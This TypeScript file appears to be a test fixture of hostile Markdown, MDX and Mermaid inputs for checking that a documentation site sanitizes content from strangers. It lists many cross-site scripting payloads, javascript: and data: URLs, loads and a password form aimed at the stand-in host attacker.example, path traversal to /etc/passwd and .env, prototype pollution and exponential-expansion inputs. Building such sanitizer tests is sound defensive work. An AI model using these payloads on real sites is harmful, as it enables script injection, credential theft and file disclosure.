/** A page that tries to do more than say something. `imports` are other files that it was given. */
export type SiteAttack = { name: string; text: string; path?: string; imports?: Record<string, string> };

const mdx = (name: string, text: string, imports?: Record<string, string>): SiteAttack => ({
  name,
  text,
  path: "attack.mdx",
  ...(imports ? { imports } : {}),
});
const diagram = (name: string, text: string): SiteAttack => md(name, `\`\`\`mermaid\n${text}\n\`\`\``);
const md = (name: string, text: string): SiteAttack => ({ name, text, path: "attack.md" });

/** What strangers might write. Every attack sets `window.pwned`, or loads from `attacker.example`, if it works. */
export const SITE_ATTACKS: SiteAttack[] = [
  // Scripts
  md("script in Markdown", "<script>window.pwned = 1</script>"),
  mdx("script in MDX", "<script>{`window.pwned = 1`}</script>"),
  md("script with a type", '<script type="module">window.pwned = 1</script>'),
  md("script of another site", '<script src="https://attacker.example/x.js"></script>'),
  md("script in capitals", "<SCRIPT>window.pwned = 1</SCRIPT>"),
  md("script with odd space", "<script\n\t>window.pwned = 1</script\n>"),
  md("script in a script", "<scr<script>ipt>window.pwned = 1</scr</script>ipt>"),
  md("script that is never closed", "text <script>window.pwned = 1"),
  md("script behind a null", "<scr\u0000ipt>window.pwned = 1</scr\u0000ipt>"),
  md("script in a comment that ends early", "<!--><script>window.pwned = 1</script>-->"),
  md("script in a title", "<title><script>window.pwned = 1</script></title>"),
  md("script in noscript", '<noscript><p title="</noscript><script>window.pwned = 1</script>"></noscript>'),
  md("script in textarea", '<textarea><p title="</textarea><script>window.pwned = 1</script>"></textarea>'),
  md("script in a template", "<template><script>window.pwned = 1</script></template>"),
  mdx("script by an expression", '{"<script>window.pwned = 1</script>"}'),
  mdx("script by a property", '<Card title={"<script>window.pwned = 1</script>"}>x</Card>'),
  mdx("script as a component of the page", "export const A = () => <script>{`window.pwned = 1`}</script>\n\n<A />"),
  mdx("dangerous HTML", '<div dangerouslySetInnerHTML={{ __html: "<img src=x onerror=window.pwned=1>" }} />'),
  mdx("inner HTML", '<div innerHTML="<img src=x onerror=window.pwned=1>" />'),
  mdx("script in a component of Astro", 'import A from "./a.astro"\n\n<A x="<img src=x onerror=window.pwned=1>" />', {
    "a.astro":
      "<div><script>window.pwned = 1</script></div><a href='javascript:window.pwned=1'>{Astro.props.x}</a><img src=x onerror='window.pwned=1' />",
  }),
  mdx("script in a component of Vue", 'import A from "./A.vue"\n\n<A />', {
    "A.vue":
      "<template>\n<img src='x' onerror='window.pwned=1' />\n<a href='javascript:window.pwned=1'>x</a>\n</template>",
  }),
  mdx("component that is its own content", 'import A from "./A.astro"\n\n<A />', { "A.astro": "<A /><A /><slot />" }),
  mdx("code in imported TypeScript", 'import a from "./a.ts"\n\n{a.x}', {
    "a.ts": "window.pwned = 1; export default { x: (() => { window.pwned = 1 })() as unknown };",
  }),
  // Events
  md("onerror", "<img src=x onerror=window.pwned=1>"),
  md("onload", '<body onload="window.pwned=1">x</body>'),
  md("onclick", '<a href="#" onclick="window.pwned=1">x</a>'),
  md("events behind slashes", "<img/src=x/onerror=window.pwned=1>"),
  md("events in capitals", '<IMG SRC="x" ONERROR="window.pwned=1">'),
  mdx("onClick", "<button onClick={() => { window.pwned = 1 }}>x</button>"),
  mdx("event as a text", '<img src="x" onError="window.pwned=1" />'),
  mdx("spread of events", '<img {...{ src: "x", onerror: "window.pwned=1", onError: "window.pwned=1" }} />'),
  md("ontoggle", '<details open ontoggle="window.pwned=1"><summary>x</summary>y</details>'),
  md("autofocus", '<p tabindex="1" autofocus onfocus="window.pwned=1">x</p>'),
  md("animation", '<p style="animation: x" onanimationstart="window.pwned=1">x</p>'),
  // Addresses
  md("javascript in a link", "[x](javascript:window.pwned=1)"),
  md("javascript in capitals", "[x](JaVaScRiPt:window.pwned=1)"),
  md("javascript with entities", "[x](&#106;avascript&colon;window.pwned=1)"),
  md("javascript with a tab", '<a href="java\tscript:window.pwned=1">x</a>'),
  md("javascript with a line", '<a href="java&#10;script:window.pwned=1">x</a>'),
  md("javascript behind a control", '<a href="&#1;javascript:window.pwned=1">x</a>'),
  md("javascript behind a space", "[x](<  javascript:window.pwned=1>)"),
  md("javascript in a definition", "[x]\n\n[x]: javascript:window.pwned=1"),
  md("javascript as an automatic link", "<javascript:window.pwned=1>"),
  md("data address", "[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==)"),
  md("vbscript", "[x](vbscript:msgbox)"),
  md("view-source and file", "[x](file:///etc/passwd) [y](view-source:https://attacker.example)"),
  md("javascript in an image", "![x](javascript:window.pwned=1)"),
  md("SVG as data in an image", "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9IndpbmRvdy5wd25lZD0xIi8+)"),
  mdx("javascript in a card", '<Card title="x" href="javascript:window.pwned=1">x</Card>'),
  mdx("javascript by an expression", '<a href={"java" + "script:window.pwned=1"}>x</a>'),
  mdx("javascript in a button", '<LinkButton href="javascript:window.pwned=1">x</LinkButton>'),
  mdx("javascript in a tooltip", '<Tooltip tip="x" cta="y" href="javascript:window.pwned=1">z</Tooltip>'),
  mdx("javascript in an icon", '<Icon icon="javascript:window.pwned=1//x.svg" />'),
  mdx("javascript in a video", '<video src="javascript:window.pwned=1" poster="javascript:window.pwned=1" />'),
  mdx("javascript of an array", '<a href={["javascript:window.pwned=1"]}>x</a>'),
  // Styles
  md("style element", "<style>body { background: url(https://attacker.example/x) }</style>"),
  md("style attribute", '<p style="position:fixed;inset:0;background:url(https://attacker.example/x)">x</p>'),
  mdx(
    "style object",
    '<div style={{ position: "fixed", inset: 0, backgroundImage: "url(https://attacker.example/x)" }}>x</div>',
  ),
  mdx("classes that cover the page", '<div className="fixed inset-0 z-50 absolute sticky top-0 -mt-96">x</div>'),
  mdx(
    "classes that load",
    '<div className="bg-[url(https://attacker.example/x)] before:content-[attr(x)] [background:red]">x</div>',
  ),
  mdx("classes of the frame", '<div className="site-header search-dialog callout-title card-link">x</div>'),
  md("imported style", '<link rel="stylesheet" href="https://attacker.example/x.css">'),
  // Drawings
  md("SVG with a script", "<svg><script>window.pwned = 1</script></svg>"),
  md("SVG with an event", '<svg onload="window.pwned=1"><path d="M0 0" /></svg>'),
  mdx(
    "SVG with foreign content",
    '<svg><foreignObject><iframe src="javascript:window.pwned=1" /></foreignObject></svg>',
  ),
  mdx(
    "SVG that uses another",
    '<svg><use href="https://attacker.example/x.svg#y" /><use xlinkHref="data:image/svg+xml,x" /></svg>',
  ),
  mdx("SVG with a link", '<svg><a xlinkHref="javascript:window.pwned=1"><text x="1" y="1">x</text></a></svg>'),
  mdx(
    "SVG that animates a link",
    '<svg><a><animate attributeName="href" values="javascript:window.pwned=1" /><text>x</text></a></svg>',
  ),
  mdx("SVG that sets", '<svg><set attributeName="onmouseover" to="window.pwned=1" /></svg>'),
  mdx(
    "SVG that loads",
    '<svg><rect fill="url(https://attacker.example/x#y)" /><image href="https://attacker.example/x" /></svg>',
  ),
  mdx("SVG with a style", "<svg><style>{`* { fill: url(https://attacker.example/x) }`}</style></svg>"),
  // Frames and others
  md("frame of a script", '<iframe src="javascript:window.pwned=1"></iframe>'),
  md("frame with its own document", '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>'),
  md("frame of another site", '<iframe src="https://attacker.example/"></iframe>'),
  md("frame that only looks allowed", '<iframe src="https://www.youtube.com.attacker.example/embed/x"></iframe>'),
  md("frame with a name before the host", '<iframe src="https://www.youtube.com@attacker.example/embed/x"></iframe>'),
  md("frame of data", '<iframe src="data:text/html,<script>parent.pwned=1</script>"></iframe>'),
  mdx("embed component", '<YouTube id={"\\" onload=\\"window.pwned=1"} />'),
  md("object", '<object data="https://attacker.example/x.swf"><embed src="https://attacker.example/x"></object>'),
  md("applet and portal", '<applet code="x"></applet><portal src="https://attacker.example"></portal>'),
  md(
    "form",
    '<form action="https://attacker.example"><input name="password" type="password"><button formaction="javascript:window.pwned=1">x</button></form>',
  ),
  md("meta refresh", '<meta http-equiv="refresh" content="0;url=https://attacker.example">'),
  md("base", '<base href="https://attacker.example/">\n\n[x](y)'),
  md("dialog and popover", '<dialog open><p popover id="x">x</p></dialog>'),
  md("ping", '<a href="https://example.com" ping="https://attacker.example" target="_blank">x</a>'),
  // Expressions
  mdx("constructor of a function", '{[].map.constructor("window.pwned = 1")()}'),
  mdx("constructor of a text", '{"".constructor.constructor("return process")()}'),
  mdx("constructor by a computed name", '{""["const" + "ructor"]["constructor"]("return 1")()}'),
  mdx("prototype of data", "export const a = { __proto__: { x: 1 } }\n\n{a.__proto__.x} {a.constructor.name}"),
  mdx("prototype by assignment", "{Object.prototype.pwned = 1}"),
  mdx("getter", "export const a = { get x() { return window.pwned = 1 } }\n\n{a.x}"),
  mdx("global objects", "{process.env.HOME} {globalThis.process} {require('fs').readFileSync('/etc/passwd')}"),
  mdx("imported module", 'import fs from "node:fs"\n\n{fs.readFileSync("/etc/passwd")}'),
  mdx("dynamic import", '{import("node:fs")}'),
  mdx("function that calls itself", "export const a = () => a()\n\n{a()}"),
  mdx("component that holds itself", "export const A = () => <A />\n\n<A />"),
  mdx(
    "text that doubles",
    `export const a = "${"x".repeat(100)}"\n${Array.from({ length: 30 }, (_, i) => `export const b${i} = ${i === 0 ? "a + a" : `b${i - 1} + b${i - 1}`}`).join("\n")}\n\n{b29}`,
  ),
  mdx(
    "content that doubles",
    `export const D = ({ children }) => <>{children}{children}</>\n\n${"<D>".repeat(30)}x${"</D>".repeat(30)}`,
  ),
  mdx("code in a parameter", "export const A = ({ x = window.pwned = 1 }) => <b>{x}</b>\n\n<A />"),
  mdx(
    "tagged template and new",
    "{String.raw`x`} {new Function('window.pwned = 1')()} {(function () { return this })().pwned}",
  ),
  // Files
  mdx("import out of the folder", 'import X from "../../../../etc/passwd"\n\n<X />'),
  mdx("import of a hidden file", 'import X from "/.env"\nimport Y from "./.git/config"\n\n<X /><Y />'),
  mdx(
    "import of an absolute address",
    'import X from "file:///etc/passwd"\nimport Y from "https://attacker.example/x.mdx"\n\n<X /><Y />',
  ),
  mdx("snippet out of the folder", '<Snippet file="../../../.env" />'),
  mdx(
    "names of objects as files",
    'import X from "constructor"\nimport Y from "./__proto__"\n\n<X /><Y /><Snippet file="toString" />',
  ),
  md("image out of the folder", "![x](../../../../etc/passwd) ![y](/../../.env) ![z](..%2f..%2f.env)"),
  md(
    "link out of the folder",
    "[x](../../../../other) [y](//attacker.example/x) [z](/\\attacker.example) [w](\\\\attacker.example)",
  ),
  mdx("snippets without end", 'import A from "/snippets/a.mdx"\n\n<A />', {
    "snippets/a.mdx": 'import A from "/snippets/a.mdx"\n\n<A /><A />',
  }),
  mdx("data with names of objects", 'import d from "./d.json"\n\n{d.__proto__} {d.constructor}', {
    "d.json": '{"__proto__": {"x": 1}}',
  }),
  // Names in the document
  md("ids of the document", '<p id="cookie">x</p><a id="location" name="getElementById">x</a>\n\n## body\n\n## forms'),
  md("names of elements", '<img name="currentScript" src="x"><form name="body"></form><a name="documentElement">x</a>'),
  md("ids of the theme", '<p id="_docket-search">x</p>\n\n## _docket-main'),
  md("id with a tag in it", `<p id='x"><img src=x onerror=window.pwned=1>'>x</p>`),
  // What a parser makes of it
  md(
    "table that throws out",
    "<table><p><script>window.pwned=1</script><tr><td><img src=x onerror=window.pwned=1></table>",
  ),
  md(
    "MathML that ends early",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=1></style></mglyph></table></mtext></math>",
  ),
  md("SVG that ends early", '<svg></p><style><a id="</style><img src=x onerror=window.pwned=1>"></svg>'),
  mdx(
    "formula with markup",
    "<Latex>{'\\\\href{javascript:window.pwned=1}{x} \\\\htmlData{x=1}{y} \\\\includegraphics{https://attacker.example/x}'}</Latex>",
  ),
  mdx("formula with text", "<Latex>{'\\\\text{</annotation><script>window.pwned=1</script>}'}</Latex>"),
  md("attributes without space", '<a href="x"onclick="window.pwned=1">x</a><img src="x""onerror="window.pwned=1">'),
  md("quotes that do not match", `<a title='x" onmouseover="window.pwned=1' href="x">y</a>`),
  md(
    "code that ends",
    "```html\n</code></pre><script>window.pwned=1</script>\n```\n\n`</code><script>window.pwned=1</script>`",
  ),
  md("title of code", '```js title="</figcaption><script>window.pwned=1</script>"\nx\n```'),
  md(
    "language of code",
    '```"><script>window.pwned=1</script>\nx\n```\n\n```__proto__\nx\n```\n\n```constructor\nx\n```',
  ),
  md(
    "frontmatter",
    '---\ntitle: "<script>window.pwned=1</script>"\nicon: "<img src=x onerror=window.pwned=1>"\n"og:title": "\\"><script>window.pwned=1</script>"\n__proto__: 1\n---\nx',
  ),
  md(
    "sign of the base",
    'x \ue0d0 y &#xE0D0; [z](\ue0d0//attacker.example "\ue0d0") ![\ue0d0](\ue0d0x) `\ue0d0` <p title="\ue0d0">x</p>',
  ),
  mdx(
    "sign of the base by an expression",
    '{"\\ue0d0"} <Card title={"\\ue0d0"} href={"\\ue0d0//attacker.example"}>x</Card>',
  ),
  md("direction of text", "[safe\u202eelpmaxe.rekcatta](https://example.com)"),
  md(
    "footnote",
    "[^<img src=x onerror=window.pwned=1>]\n\n[^<img src=x onerror=window.pwned=1>]: <script>window.pwned=1</script>",
  ),
  md(
    "drawing that uses itself",
    `<svg viewBox="0 0 9 9"><defs><g id="a0"><circle r="1"/></g>${Array.from({ length: 40 }, (_, at) => `<g id="a${at + 1}">${`<use href="#a${at}"/>`.repeat(10)}</g>`).join("")}</defs><use href="#a40"/><use href="#a3"/></svg>`,
  ),
  md(
    "drawing cut by another's path",
    '<svg><g clip-path="url(https://attacker.example/x#y)"><use href="https://attacker.example/x#y"/><use href="data:image/svg+xml,x#y"/></g></svg>',
  ),
  // Diagrams, which readers' browsers draw
  diagram("diagram with a callback", "graph LR\nA-->B\nclick A call alert(1)\nclick B alert"),
  diagram(
    "diagram with addresses that run",
    'graph LR\nA-->B\nclick A "javascript:window.pwned=1"\nclick B href "data:text/html,x" _top',
  ),
  diagram(
    "diagram with HTML as labels",
    'graph LR\nA["<img src=x onerror=window.pwned=1>"]-->B["<script>window.pwned=1</script>"]-->C["<svg onload=window.pwned=1>"]',
  ),
  diagram(
    "diagram with a page as label",
    "graph LR\nA[\"<iframe srcdoc='<script>parent.pwned=1</script>'></iframe><meta http-equiv=refresh content='0;url=https://attacker.example/'><style>@import 'https://attacker.example/x'</style><form action='https://attacker.example/'><input autofocus onfocus='window.pwned=1'></form>\"]",
  ),
  diagram(
    "diagram that sets its own security",
    '%%{init: {"securityLevel": "loose", "secure": [], "theme": "base", "htmlLabels": true, "themeCSS": "* { background: url(https://attacker.example/x) }", "fontFamily": "x; } </style><img src=x onerror=window.pwned=1>"}}%%\ngraph LR\nA["<img src=x onerror=window.pwned=1>"]\nclick A call alert(1)',
  ),
  diagram(
    "diagram with frontmatter",
    "---\ntitle: <img src=x onerror=window.pwned=1>\nconfig:\n  securityLevel: loose\n  themeVariables:\n    primaryColor: 'red; } </style><img src=x onerror=window.pwned=1>'\n---\ngraph LR\nA-->B",
  ),
  diagram("diagram with pictures of others", 'graph LR\nA@{ img: "https://attacker.example/x.png", label: "x" }-->B'),
  diagram(
    "diagram with links of participants",
    'sequenceDiagram\nparticipant A\nlink A: x @ javascript:window.pwned=1\nlinks A: {"y": "https://attacker.example/"}\nA->>A: <img src=x onerror=window.pwned=1>',
  ),
  diagram(
    "diagram with tasks that run",
    'gantt\ndateFormat YYYY-MM-DD\nsection <img src=x onerror=window.pwned=1>\nT :a1, 2024-01-01, 3d\nclick a1 href "javascript:window.pwned=1"',
  ),
  diagram(
    "diagram that changes prototypes",
    '%%{init: {"__proto__": {"polluted": 1}, "constructor": {"prototype": {"polluted": 1}}, "themeVariables": {"__proto__": {"polluted": 1}}}}%%\ngraph LR\n__proto__-->constructor',
  ),
  diagram(
    "diagram that ends its document",
    'graph LR\nA["</script></body></html><script>window.pwned=1</script>"]\n<!-- <script>',
  ),
  diagram(
    "diagram of a great many nodes",
    `graph LR\n${Array.from({ length: 800 }, (_, at) => `a${at}-->b${at}`).join("\n")}`,
  ),
  mdx("diagram by a property", '<Mermaid chart={"graph LR\\nA[\\"<img src=x onerror=window.pwned=1>\\"]"} />'),
];
